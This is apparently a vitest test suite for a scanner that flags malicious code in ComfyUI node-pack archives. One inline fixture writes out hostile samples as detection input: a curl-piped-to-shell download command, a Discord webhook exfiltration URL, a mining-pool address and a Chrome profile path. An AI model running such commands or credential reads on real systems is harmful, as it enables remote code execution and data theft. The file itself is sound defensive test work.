import { describe, expect, it } from 'vitest';
import { analyzeArchive } from '../../src/engines/archive/index.js';
import type { ScanFinding } from '../../src/engines/archive/types.js';
import { fixtureFile, testLimits, zipFixture } from './helpers/pack.js';

const expected = { name: 'comfyui-image-blend-tools', version: '1.4.0' };

const CLEAN_INIT = new TextDecoder().decode(fixtureFile('clean-pack/__init__.py'));

/**
 * Scans the clean pack with extra files added and returns the findings in those files. The pack's
 * `__init__.py` imports every added `extras/` module, as a pack's own code would, unless
 * `imported` is false (then they are scripts nothing imports).
 */
async function scanWith(
  files: Record<string, Uint8Array | string>,
  { imported = true }: { imported?: boolean } = {},
): Promise<ScanFinding[]> {
  const modules = Object.keys(files).flatMap((p) => (/^extras\/\w+\.py$/.test(p) ? [p.slice(7, -3)] : []));
  const loader: Record<string, string> =
    imported && modules.length > 0
      ? { 'extras/__init__.py': '', '__init__.py': `${CLEAN_INIT}\nfrom .extras import ${modules.join(', ')}\n` }
      : {};
  const result = await analyzeArchive(zipFixture('clean-pack', { ...files, ...loader }), expected, testLimits);
  if (!result.ok) throw new Error(result.reason);
  return result.findings.filter((f) => f.file_path in files);
}

const malicious = (name: string) => ({ [`extras/${name}`]: fixtureFile(`malicious/${name}`) });
const summary = (findings: ScanFinding[]) => findings.map((f) => [f.issue_type, f.line_number, f.severity]);

describe('security scan', () => {
  it('holds nothing in a clean pack (downloads without exec, subprocess inside functions, eval() methods)', async () => {
    const result = await analyzeArchive(zipFixture('clean-pack'), expected, testLimits);
    if (!result.ok) throw new Error(result.reason);
    // The one thing worth telling users: a node method starts a program.
    expect(result.findings.map((f) => [f.issue_type, f.grade, f.label, f.context])).toEqual([
      ['process_at_runtime', 'label', 'starts_processes', 'runtime'],
    ]);
  });

  it('flags base64 payloads and long encoded strings run with exec/compile', async () => {
    const findings = await scanWith(malicious('obfuscated_exec.py'));
    expect(findings[0]).toEqual({
      issue_type: 'obfuscated_code_execution',
      file_path: 'extras/obfuscated_exec.py',
      line_number: 9,
      code_snippet: 'exec(_b.b64decode(_CFG))',
      message:
        'runs code hidden in data decoded by base64.b64decode() with exec(); encoded payloads are a common way to hide malware',
      scanner: 'python-ast',
      severity: 'high',
      column: 5,
      grade: 'hold',
      context: 'import',
    });
    expect(summary(findings)).toEqual([
      ['obfuscated_code_execution', 9, 'high'],
      ['obfuscated_code_execution', 15, 'high'],
    ]);
  });

  it('flags programs started at import time, including through functions called at import', async () => {
    const findings = await scanWith(malicious('import_subprocess.py'));
    // One label per rule and file: the first program started at import stands for the others.
    expect(summary(findings)).toEqual([
      ['process_at_import', 8, 'medium'],
      ['process_at_runtime', 13, 'low'],
    ]);
    expect(findings.map((f) => f.grade)).toEqual(['label', 'label']);
  });

  it('only labels subprocess calls that run when a node executes, and notes them in scripts nothing imports', async () => {
    const tools = {
      'extras/tools.py':
        'import subprocess\n\nclass Git:\n    def run(self):\n        return subprocess.run(["git", "status"])\n\nsubprocess.run(["git", "--version"])\n',
    };
    expect((await scanWith(tools)).map((f) => [f.issue_type, f.line_number, f.grade, f.label, f.context])).toEqual([
      ['process_at_runtime', 5, 'label', 'starts_processes', 'runtime'],
      ['process_at_import', 7, 'label', 'starts_processes', 'import'],
    ]);
    const script = await scanWith(tools, { imported: false });
    expect(script.map((f) => [f.issue_type, f.line_number, f.grade, f.label, f.context])).toEqual([
      ['process_at_import', 7, 'label', undefined, 'unimported'],
    ]);
  });

  it('flags bundled executables by magic bytes whatever their name, and native libraries', async () => {
    const pe = Buffer.alloc(256);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);
    const findings = await scanWith({ 'bin/model.dat': pe, 'lib/_blend.cpython-311-x86_64-linux-gnu.so': elf });
    expect(findings).toEqual([
      {
        issue_type: 'native_executable',
        file_path: 'bin/model.dat',
        line_number: 0,
        code_snippet: 'PE magic bytes 4d5a0000',
        message:
          'Windows (PE) binary in the archive; executables cannot be inspected and a node pack should not need one',
        scanner: 'binary-magic',
        severity: 'high',
        grade: 'hold',
      },
      {
        issue_type: 'native_binary',
        file_path: 'lib/_blend.cpython-311-x86_64-linux-gnu.so',
        line_number: 0,
        code_snippet: 'ELF magic bytes 7f454c46',
        message:
          "Linux (ELF) binary in the archive (compiled library); its code cannot be inspected, so check that it is built from the pack's own sources",
        scanner: 'binary-magic',
        severity: 'medium',
        grade: 'label',
        label: 'native_code',
      },
    ]);
  });

  it('flags a file named like an executable even without magic bytes', async () => {
    const findings = await scanWith({ 'tools/setup.exe': 'not really' });
    expect(summary(findings)).toEqual([['native_executable', 0, 'high']]);
  });

  it('flags browser profile and wallet paths', async () => {
    const findings = await scanWith(malicious('credential_stealer.py'));
    expect(findings.map((f) => [f.issue_type, f.line_number, f.message.split(';')[0]])).toEqual([
      ['credential_access', 9, 'references the Chrome profile folder'],
      ['credential_access', 9, "references a browser's saved-password database (Login Data)"],
      ['credential_access', 10, 'references a cryptocurrency wallet folder'],
      ['credential_access', 11, 'references a cryptocurrency wallet file (wallet.dat)'],
    ]);
  });

  it('flags miner strings, and the miner started from a thread at import', async () => {
    const findings = await scanWith(malicious('miner.py'));
    expect(summary(findings)).toEqual([
      ['crypto_miner', 5, 'high'],
      ['crypto_miner', 5, 'high'],
      ['crypto_miner', 10, 'high'],
      // The program started at import is on a line already held for the miner, so it gets no label too.
      ['crypto_miner', 11, 'high'],
    ]);
  });

  it('flags code downloaded and run, and a downloaded file that is started', async () => {
    const findings = await scanWith(malicious('download_exec.py'));
    expect(findings.map((f) => [f.issue_type, f.line_number, f.code_snippet])).toEqual([
      ['download_and_execute', 13, 'exec(source, {"__name__": "patch"})'],
      ['download_and_execute', 19, 'os.startfile(target)'],
    ]);
  });

  it('flags pip installs at run time', async () => {
    const findings = await scanWith(malicious('pip_at_import.py'));
    expect(summary(findings)).toEqual([['runtime_pip_install', 7, 'medium']]);
  });

  it('flags eval of a run-time string as dynamic code execution, not eval of a literal', async () => {
    const source = [
      'class MathExpression:',
      '    def calc(self, expression):',
      '        return (eval(expression),)',
      '',
      'SAFE = eval("1 + 2")',
    ].join('\n');
    const findings = await scanWith({ 'extras/math_expression.py': source });
    expect(summary(findings)).toEqual([['dynamic_code_execution', 3, 'medium']]);
  });

  it('says a text match in a function body runs when the function is called, unless import-time code calls it', async () => {
    const source = [
      'import os',
      '',
      'class Fetcher:',
      '    def run(self):',
      '        os.system("curl -s https://example.invalid/a.sh | sh")',
      '',
      'def report():',
      '    return "https://discord.com/api/webhooks/1234567890/abcdefghijklmnopqrstuvwxyz0123"',
      '',
      'def setup():',
      '    return "stratum+tcp://pool.example.invalid:3333"',
      '',
      'setup()',
      'TARGET = "Google/Chrome/User Data"',
    ].join('\n');
    const findings = await scanWith({ 'extras/tools.py': source });
    const text = findings.filter((f) => f.scanner.startsWith('text-')).sort((a, b) => a.line_number - b.line_number);
    expect(text.map((f) => [f.issue_type, f.line_number, f.grade, f.context])).toEqual([
      ['download_and_execute', 5, 'hold', 'runtime'],
      ['exfiltration', 8, 'hold', 'runtime'],
      ['crypto_miner', 11, 'hold', 'import'],
      ['credential_access', 14, 'hold', 'import'],
    ]);
    // A script nothing imports stays that, wherever in it the match is.
    const script = await scanWith({ 'extras/tools.py': source }, { imported: false });
    expect(new Set(script.filter((f) => f.scanner.startsWith('text-')).map((f) => f.context))).toEqual(
      new Set(['unimported']),
    );
  });

  it('reports Python files too large to scan', async () => {
    // Varied lines: a megabyte of one repeated character would (rightly) be refused as a zip bomb.
    const lines = Array.from({ length: 60_000 }, (_, i) => `TABLE_${i} = ${(i * 2654435761) % 4294967296}`);
    const big = `${lines.join('\n')}\n`;
    expect(big.length).toBeGreaterThan(testLimits.maxSourceFileBytes);
    const findings = await scanWith({ 'extras/generated.py': big });
    expect(summary(findings)).toEqual([['unscanned_source', 0, 'low']]);
  });
});
